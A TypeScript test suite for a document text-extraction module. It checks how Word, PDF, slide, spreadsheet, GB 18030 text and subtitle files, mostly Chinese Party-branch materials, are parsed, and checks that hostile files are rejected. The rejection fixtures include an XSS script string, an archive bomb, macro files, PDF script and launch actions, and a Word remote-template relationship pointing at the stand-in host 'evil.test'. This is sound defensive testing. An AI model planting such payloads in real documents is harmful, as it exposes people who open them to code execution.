import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import iconv from 'iconv-lite'
import sharp from 'sharp'
import { printPdf } from './print.ts'
import { writeSheet } from './sheets.ts'
import { acts, archiveOf, bomb, liar, pdfOf, slidesOf, wordOf, wordWith } from './testing-documents.ts'
import { paragraphsOf } from './text/parts.ts'
import { type DocumentKind, openDocument } from './text-extraction.ts'

const look = async (kind: DocumentKind, bytes: Buffer) => {
  const answer = await openDocument({ want: 'look', kind, bytes })
  return 'fault' in answer ? answer.fault : null
}
const read = async (kind: DocumentKind, bytes: Buffer | string) => {
  const answer = await openDocument({ want: 'read', kind, bytes: Buffer.from(bytes) })
  assert.ok('parts' in answer, JSON.stringify(answer))
  return answer.parts
}

describe('The text of a document', () => {
  it('of Word is set in parts by its headings, and safe', async () => {
    const word = await wordOf({
      '一、总则': ['党支部是党的基础组织。', '<script>alert(1)</script>'],
      '二、组织设置': ['凡有正式党员3人以上的，都应当成立党的基层组织。'],
    })
    assert.equal(await look('word', word), null)
    const parts = await read('word', word)
    assert.deepEqual(
      parts.map(({ anchor, heading }) => [anchor, heading]),
      [
        ['s1', '一、总则'],
        ['s2', '二、组织设置'],
      ],
    )
    assert.match(parts[0]?.html ?? '', /<h1>一、总则<\/h1><p>党支部是党的基础组织。<\/p><p>&lt;script&gt;/)
    assert.match(parts[0]?.text ?? '', /党支部是党的基础组织。\n<script>/)
  })

  it('of a PDF is had page by page, Chinese with its subset fonts', async () => {
    const printed = await printPdf(
      'report.typ',
      {
        title: '支部书记培训教材',
        organization: '中共星河研究院委员会',
        asOf: '2026年11月24日',
        cover: [],
        tables: [],
        checks: [],
      },
      '2026-11-24',
    )
    assert.equal(await look('pdf', printed), null)
    assert.match((await read('pdf', printed)).map(({ text }) => text).join(), /支部书记培训教材/)
    const looked = await openDocument({ want: 'look', kind: 'pdf', bytes: printed })
    assert.ok('parts' in looked && looked.picture)
    const { format, width, height } = await sharp(looked.picture.bytes).metadata()
    assert.deepEqual([format, width, height], ['png', looked.picture.width, looked.picture.height])
    const pages = await read('pdf', await pdfOf(['Page one', 'Page two']))
    assert.deepEqual(
      pages.map(({ anchor, text }) => [anchor, text]),
      [
        ['p1', 'Page one'],
        ['p2', 'Page two'],
      ],
    )
  })

  it('of slides comes in the order they are shown in', async () => {
    const slides = await slidesOf([['主题教育', '2026年'], ['一、学习安排 &amp; 分工']])
    assert.equal(await look('slides', slides), null)
    assert.deepEqual(
      (await read('slides', slides)).map(({ text }) => text),
      ['主题教育\n2026年', '一、学习安排 & 分工'],
    )
  })

  it('of a workbook is had by sheet and row', async () => {
    const columns = [
      { header: '姓名', width: 10 },
      { header: '支部', width: 20 },
    ]
    const layout = { name: '名册', columns } as never
    const pieces: Uint8Array[] = []
    for await (const piece of writeSheet(layout, [['东一党员', '东区第一党支部']])) pieces.push(piece)
    const [sheet] = await read('sheet', Buffer.concat(pieces))
    assert.match(sheet?.text ?? '', /东一党员\t东区第一党支部/)
  })

  it('of plain text may be in GB 18030, and is cut at its chapters', async () => {
    const parts = await read(
      'text',
      iconv.encode('前言\n第一章 总则\n第一条 根据党章制定。\n第二章 职责\n第二条 略。', 'gb18030'),
    )
    assert.deepEqual(
      parts.map(({ heading }) => heading),
      ['前言', '第一章 总则', '第二章 职责'],
    )
  })

  it('of subtitles is what is said', async () => {
    const [all] = await read(
      'subtitles',
      '1\r\n00:00:01,000 --> 00:00:02,500\r\n<i>同志们</i>\r\n\r\n2\r\n00:00:03,000 --> 00:00:04,000\r\n现在开会\r\n',
    )
    assert.equal(all?.text, '同志们\n现在开会')
    assert.equal(await look('subtitles', Buffer.from('只有文字，没有时间')), 'text-damaged')
  })

  it('joins the lines of a paragraph, and not those of a list', () => {
    const lines = [
      '党支部是党的基础组织，担负直接教育党员、管理党员',
      '和监督党员的职责。',
      '一、组织',
      '二、制度',
    ]
    assert.equal(
      paragraphsOf(lines),
      '党支部是党的基础组织，担负直接教育党员、管理党员和监督党员的职责。\n一、组织\n二、制度',
    )
  })
})

describe('A document that is not taken', () => {
  it('unpacks to more than anybody writes, or to more than it says', async () => {
    assert.equal(await look('word', await bomb()), 'archive-bomb')
    assert.equal(await look('word', await liar()), 'archive-damaged')
    assert.equal(await look('word', (await wordOf({ 一: ['二'] })).subarray(0, 900)), 'archive-damaged')
  })

  it('is another one than its name says', async () => {
    assert.equal(await look('slides', await wordOf({ 一: ['二'] })), 'office-kind')
    assert.equal(await look('word', await archiveOf({ 'a.txt': 'x' })), 'office-kind')
  })

  it('brings macros, or fetches something from outside when it is opened', async () => {
    assert.equal(await look('word', await wordWith({ 'word/vbaProject.bin': 'x' })), 'office-macros')
    const template =
      '<Relationships><Relationship Id="r" Type="http://schemas/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/></Relationships>'
    assert.equal(
      await look('word', await wordWith({ 'word/_rels/settings.xml.rels': template })),
      'office-outside',
    )
    const link = template.replace('attachedTemplate', 'hyperlink')
    assert.equal(await look('word', await wordWith({ 'word/_rels/document.xml.rels': link })), null)
  })

  it('is a PDF that runs a script, starts a program, or carries another file', async () => {
    assert.equal(await look('pdf', await pdfOf(['a'], acts.script)), 'pdf-script')
    assert.equal(await look('pdf', await pdfOf(['a'], acts.launch)), 'pdf-launch')
    assert.equal(await look('pdf', await pdfOf(['a'], acts.embedded)), 'pdf-embedded')
    assert.equal(await look('pdf', await pdfOf(['a'], acts.page)), null)
    assert.equal(await look('pdf', Buffer.from('%PDF-1.7 nothing of the kind')), 'pdf-damaged')
  })

  it('takes more time or memory than it is given, and breaks nothing but its own thread', async () => {
    const bytes = await pdfOf(['a'])
    const none = { milliseconds: 1, megabytes: 64 }
    assert.deepEqual(await openDocument({ want: 'read', kind: 'pdf', bytes }, none), {
      fault: 'document-heavy',
    })
    assert.deepEqual(
      await openDocument({ want: 'read', kind: 'pdf', bytes }, { milliseconds: 60_000, megabytes: 4 }),
      {
        fault: 'document-heavy',
      },
    )
    assert.equal((await read('pdf', bytes)).length, 1)
  })
})
